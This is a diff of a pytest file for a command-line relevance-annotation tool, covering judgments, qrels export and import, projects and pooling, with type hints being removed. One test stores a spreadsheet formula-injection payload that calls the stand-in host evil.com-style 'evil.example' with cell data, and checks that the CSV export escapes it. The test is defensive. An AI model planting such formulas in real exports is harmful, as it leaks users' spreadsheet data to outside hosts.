@@ -1,13 +1,9 @@
 """Annotation from the command line, as a script drives it."""
 
-from __future__ import annotations
-
 import csv
 import io
 import json
 from math import log2
-from pathlib import Path
-from typing import Any
 
 import pytest
 
@@ -21,19 +17,17 @@ QUERY = "bees-network_method"
 ITEM = ("--query", QUERY, "--doc", "bread-network")
 
 
-def judge(home: Path, grade: int, who: str, doc_id: str = "bread-network") -> Any:
+def judge(home, grade, who, doc_id="bread-network"):
     asked = ("--query", QUERY, "--doc", doc_id, "--grade", grade, "--annotator", who)
     return run_json(home, "judge", "small", *asked)
 
 
-def exported(home: Path, *options: object) -> list[Any]:
+def exported(home, *options):
     lines = run_inside(home, "qrels", "export", "small", "--format", "jsonl", *options).stdout
     return [*map(json.loads, lines.splitlines())]
 
 
-def test_a_judgment_is_stored_with_who_and_why_and_an_undo_brings_back_the_one_before(
-    corpus: Path,
-) -> None:
+def test_a_judgment_is_stored_with_who_and_why_and_an_undo_brings_back_the_one_before(corpus):
     first = judge(corpus, 3, "ann")
     names = ("corpus", "project", "query_id", "doc_id", "annotator", "relevance", "verdict")
     assert [first[n] for n in names] == [*("small", "", QUERY, "bread-network", "ann", 3, "grade")]
@@ -49,7 +43,7 @@ def test_a_judgment_is_stored_with_who_and_why_and_an_undo_brings_back_the_one_b
     assert run_json(corpus, *undo) == {"undone": None}
 
 
-def test_from_a_project_to_qrels(corpus: Path, tmp_path: Path) -> None:
+def test_from_a_project_to_qrels(corpus, tmp_path):
     guide, queries = tmp_path / "guide.md", tmp_path / "queries.txt"
     guide.write_text("Same **method**?", "utf-8")
     queries.write_text(f"{QUERY}\n", "utf-8")
@@ -97,7 +91,7 @@ def test_from_a_project_to_qrels(corpus: Path, tmp_path: Path) -> None:
     ]
 
 
-def agreement_is_measured_over_two_items(corpus: Path, split_on: str) -> None:
+def agreement_is_measured_over_two_items(corpus, split_on):
     """Of Ann and Bob: one item graded alike, one not."""
     command = ("agreement", "small", "--project", "p")
     agreed = run_json(corpus, *command)
@@ -122,9 +116,7 @@ def agreement_is_measured_over_two_items(corpus: Path, split_on: str) -> None:
     assert "ann 3, bob 1" in run_inside(corpus, *command, "--disagreements").stdout
 
 
-def test_a_project_is_shared_out_copied_renamed_deleted_and_brought_back(
-    corpus: Path, tmp_path: Path
-) -> None:
+def test_a_project_is_shared_out_copied_renamed_deleted_and_brought_back(corpus, tmp_path):
     queries = tmp_path / "queries.txt"
     queries.write_text(f"{QUERY}\n", "utf-8")
     people = ("--annotator", "ann", "--annotator", "bob", "--first", 2)
@@ -148,7 +140,7 @@ def test_a_project_is_shared_out_copied_renamed_deleted_and_brought_back(
     assert_refused(run_inside(corpus, "project", "copy", "small", "r", "q"), "project 'q' already")
 
 
-def test_csv_is_for_spreadsheets_where_it_is_asked_for(corpus: Path) -> None:
+def test_csv_is_for_spreadsheets_where_it_is_asked_for(corpus):
     formula = '=HYPERLINK("https://evil.example?"&A1)'
     run_json(corpus, "judge", "small", *ITEM, "--grade", 2, "--annotator", "ann", "--note", formula)
     export = ("qrels", "export", "small", "--per-annotator", "--format", "csv")
@@ -159,9 +151,7 @@ def test_csv_is_for_spreadsheets_where_it_is_asked_for(corpus: Path) -> None:
     assert notes == [formula, f"'{formula}"]
 
 
-def test_qrels_are_exported_and_imported_and_a_broken_file_changes_nothing(
-    corpus: Path, tmp_path: Path
-) -> None:
+def test_qrels_are_exported_and_imported_and_a_broken_file_changes_nothing(corpus, tmp_path):
     judge(corpus, 3, "ann")
     judge(corpus, 0, "ann", "maps-survey")
     out = tmp_path / "out" / "small.qrels"
@@ -186,7 +176,7 @@ def test_qrels_are_exported_and_imported_and_a_broken_file_changes_nothing(
     assert {row["annotator"] for row in exported(corpus, "--per-annotator")} == {"ann", "bob"}
 
 
-def test_a_pool_takes_runs_and_names_what_is_missing(corpus: Path, tmp_path: Path) -> None:
+def test_a_pool_takes_runs_and_names_what_is_missing(corpus, tmp_path):
     judge(corpus, 1, "ann")
     run_file = tmp_path / "mine.run"
     run_file.write_text(f"{QUERY} Q0 emoji 1 2.0 mine\n{QUERY} Q0 elsewhere 2 1.0 mine\n")
@@ -214,7 +204,7 @@ def test_a_pool_takes_runs_and_names_what_is_missing(corpus: Path, tmp_path: Pat
     )
 
 
-def test_a_project_s_people_are_cleared_and_a_scale_is_read(corpus: Path, tmp_path: Path) -> None:
+def test_a_project_s_people_are_cleared_and_a_scale_is_read(corpus, tmp_path):
     people = ("--annotator", "ann", "--lead", "me")
     run_json(corpus, "project", "create", "small", "p", *people)
     change = ("project", "change", "small", "p", "--author", "me")
@@ -227,7 +217,7 @@ def test_a_project_s_people_are_cleared_and_a_scale_is_read(corpus: Path, tmp_pa
     assert changed["scale"]["grades"][1]["meaning"] == "all of it"
 
 
-def test_the_command_judges_beside_an_open_app_and_each_sees_the_other(corpus: Path) -> None:
+def test_the_command_judges_beside_an_open_app_and_each_sees_the_other(corpus):
     annotation = make_explorer(corpus).annotation
     project = annotation.project("small")
     annotation.judge(project, Judgment(QUERY, "bread-network", "ann", 1))
